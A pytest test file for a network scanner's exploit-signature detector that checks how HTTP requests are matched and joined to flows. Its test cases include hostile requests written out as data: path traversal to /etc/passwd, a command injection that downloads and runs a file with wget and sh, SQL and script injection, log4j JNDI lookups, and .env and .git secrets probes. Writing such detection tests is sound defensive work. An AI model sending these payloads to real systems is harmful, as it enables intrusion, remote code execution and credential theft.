"""The request pass: HTTP requests matched against exploit signatures, joined to the main pass's flows."""

from __future__ import annotations

import contextlib
import csv
import random
from pathlib import Path

import pytest

from iotscan.errors import IotscanError
from iotscan.request_pass import (
    METHODS,
    SIGNATURES,
    RequestFindings,
    RequestPlugin,
    match_request,
    read_requests,
    request_pass,
    signature,
)
from iotscan.source import MeterConfig
from tests.conftest import NDPI_PCAPS, REPO, SAMPLES, ndjson, require_shared, run_iotscan


def names(request: bytes) -> str | None:
    sig = signature(match_request(request))
    return None if sig is None else sig.name


@pytest.mark.parametrize(("request_bytes", "expected"), [
    (b"GET /cgi-bin/../../../../etc/passwd HTTP/1.1\r\nHost: cam\r\n\r\n", "path traversal"),
    (b"GET /img/%2e%2e%2f%2e%2e%2fwin.ini HTTP/1.1\r\n\r\n", "path traversal"),
    (b"GET /a%252e%252e%252fb HTTP/1.1\r\n\r\n", "path traversal"),  # encoded twice
    (b"GET /cgi-bin/ping.cgi?host=127.0.0.1;wget%20http://x/m%20-O%20/tmp/m;sh%20/tmp/m HTTP/1.1\r\n\r\n",
     "command injection"),
    (b"POST /luci/;stok=/locale?form=country&country=$(id>/tmp/x) HTTP/1.1\r\n\r\n", "command injection"),
    (b"GET /item.php?id=1+UNION+ALL+SELECT+user,pass+FROM+users HTTP/1.1\r\n\r\n", "SQL injection"),
    (b"GET /login?u=admin'%20or%20'1'='1 HTTP/1.1\r\n\r\n", "SQL injection"),
    (b"GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1\r\n\r\n", "script injection"),
    (b"GET / HTTP/1.1\r\nHost: a\r\nX-Api-Version: ${jndi:ldap://10.0.0.1:1389/a}\r\n\r\n", "JNDI lookup (log4j)"),
    (b"GET / HTTP/1.1\r\nUser-Agent: ${${lower:j}ndi:ldap://x/a}\r\n\r\n", "JNDI lookup (log4j)"),
    (b"GET /.env HTTP/1.1\r\nHost: shop\r\n\r\n", "secrets probe"),
    (b"GET /app/.git/config HTTP/1.1\r\n\r\n", "secrets probe"),
])
def test_exploit_requests_match_their_signature(request_bytes: bytes, expected: str) -> None:
    assert names(request_bytes) == expected


@pytest.mark.parametrize("request_bytes", [
    b"GET / HTTP/1.1\r\nHost: 192.168.1.10\r\nUser-Agent: Mozilla/5.0\r\n\r\n",
    b"GET /api/v1/status?device=plug&on=1 HTTP/1.1\r\n\r\n",
    b"GET /search?q=union+station+select+menu HTTP/1.1\r\n\r\n",  # words, not an injection
    b"GET /static/app.js?v=3.2.1 HTTP/1.1\r\nReferer: http://cam/index.html\r\n\r\n",
    b"POST /upnp/control/basicevent1 HTTP/1.1\r\n"
    b"SOAPACTION: \"urn:Belkin:service:basicevent:1#SetBinaryState\"\r\n\r\n",
    b"GET /.environment/settings HTTP/1.1\r\n\r\n",
    b"GET /list?page=2&id=31&cat=books&sh=1&echo=off HTTP/1.1\r\n\r\n",  # parameters named like commands
    b"GET /shop;jsessionid=A1B2;id=7 HTTP/1.1\r\n\r\n",
    b"GET /player?onload=autoplay&title=O'Reilly+or+2+others HTTP/1.1\r\n\r\n",
    b"GET /description.xml HTTP/1.1\r\nHost: 192.168.1.20:80\r\n\r\n",
    b"GET",  # no target
])
def test_ordinary_requests_match_nothing(request_bytes: bytes) -> None:
    assert match_request(request_bytes) == 0


def test_signature_codes_are_stable_positions() -> None:
    # codes are stored in the model's feature rows: a signature keeps its number
    assert [s.name for s in SIGNATURES[:6]] == ["path traversal", "command injection", "SQL injection",
                                                "script injection", "JNDI lookup (log4j)", "secrets probe"]
    assert signature(0) is None and signature(len(SIGNATURES) + 1) is None
    assert all(s.family == "exploit" and s.where in ("target", "head") for s in SIGNATURES)


def test_findings_join_flows_in_either_direction_and_within_their_lifetime() -> None:
    f = RequestFindings()
    f.add("10.0.0.2", 40000, "10.0.0.1", 80, 1_000, 3)
    assert f.code("10.0.0.2", 40000, "10.0.0.1", 80, 900, 1_500) == 3
    assert f.code("10.0.0.1", 80, "10.0.0.2", 40000, 900, 1_500) == 3  # the main flow seen the other way
    assert f.code("10.0.0.2", 40000, "10.0.0.1", 80, 5_000, 9_000) == 0  # same ports reused later
    assert f.code("10.0.0.2", 40001, "10.0.0.1", 80, 900, 1_500) == 0


def test_fuzzed_requests_never_raise() -> None:
    rng = random.Random(7)
    base = b"GET /cgi-bin/a.cgi?x=1;wget%20h HTTP/1.1\r\nUser-Agent: ${jndi:x}\r\n\r\n"
    plugin = RequestPlugin()

    class Flow:
        class udps:
            pass

    class Packet:
        ip_packet = b""

    for _ in range(2000):
        data = bytearray(base[: rng.randrange(len(base) + 1)])
        for _ in range(rng.randrange(4)):
            if data:
                data[rng.randrange(len(data))] = rng.randrange(256)
        match_request(bytes(data))
        # the plugin on a hand-built IPv4/TCP packet carrying the mangled bytes, and on garbage
        Packet.ip_packet = bytes([0x45, 0, 0, 0, 0, 0, 0, 0, 64, 6] + [0] * 10 + [0] * 12 + [0x50] + [0] * 7) + data
        plugin.on_init(Packet, Flow)
        Packet.ip_packet = bytes(rng.randrange(256) for _ in range(rng.randrange(80)))
        plugin.on_update(Packet, Flow)


def test_sample_exploits_are_attacks_with_the_signature_as_reason() -> None:
    proc = run_iotscan("analyze", SAMPLES / "web-sqli.pcap", SAMPLES / "log4j-exploit.pcap", "-f", "ndjson",
                       "--no-devices", check_code=0)
    flows = [r for r in ndjson(proc.stdout) if r["event_type"] == "flow"]
    by_reason: dict[str, list[dict]] = {}
    for r in flows:
        if r["reasons"] and r["reasons"][0].startswith("HTTP request matched an exploit signature"):
            by_reason.setdefault(r["reasons"][0].split(": ")[-1], []).append(r)
    # seven of the SQL-injection capture's nine requests carry SQL in the URL; log4j's lookup rides in a header
    assert len(by_reason.get("SQL injection", [])) == 7
    assert len(by_reason.get("JNDI lookup (log4j)", [])) >= 1
    for r in [r for group in by_reason.values() for r in group]:
        assert r["verdict"] == "attack" and r["family"] == "exploit" and r["score"] == 1.0
        assert r["protocol"] == 6 and r["dst_port"] in (80, 8080)


def test_benign_samples_have_no_signature() -> None:
    proc = run_iotscan("analyze", SAMPLES / "tplink-hs110-setup.pcap", SAMPLES / "hue-bridge-setup.pcap",
                       "-f", "ndjson", "--no-devices", check_code=0)
    flows = [r for r in ndjson(proc.stdout) if r["event_type"] == "flow"]
    assert flows and not any(r["reasons"] and "signature" in r["reasons"][0] for r in flows)


def test_request_pass_reads_the_shared_exploits_and_no_benign_request() -> None:
    require_shared()
    for name, expected in [("WebattackSQLinj.pcap", 7), ("xss.pcap", 1), ("sql_injection.pcap", 1),
                           ("dotenv.pcap", 1), ("log4j-webapp-exploit.pcap", 1)]:
        path = str(NDPI_PCAPS / name)
        assert read_requests(path, MeterConfig(source=path)).matched == expected, name
    # every capture of the corpus the training manifest calls benign: no request matches
    benign = []
    with (REPO / "training" / "ndpi-corpus.csv").open() as f:
        for row in csv.DictReader(line for line in f if not line.startswith("#")):
            if row["label"] == "benign":
                benign.extend(sorted(NDPI_PCAPS.glob(row["path"])))
    requests = 0
    for path in benign:
        job = request_pass(str(path), MeterConfig(source=str(path)))
        found = job.outcome()
        requests += job.report.flows  # request flows read (only matches leave the pass's meter)
        assert found.matched == 0, (path.name, found.by_endpoints)
    assert requests > 250  # the corpus's benign captures do carry HTTP (289 request flows)


def test_request_pass_never_raises_on_the_corpus() -> None:
    # malformed and odd link types included: the pass fails with iotscan's own errors or not at all
    require_shared()
    for path in sorted(Path(NDPI_PCAPS).glob("*.pcap*")):
        with contextlib.suppress(IotscanError):
            read_requests(str(path), MeterConfig(source=str(path)))


def test_methods_are_four_bytes() -> None:
    assert all(len(m) == 4 for m in METHODS)  # the BPF compares the first four payload bytes
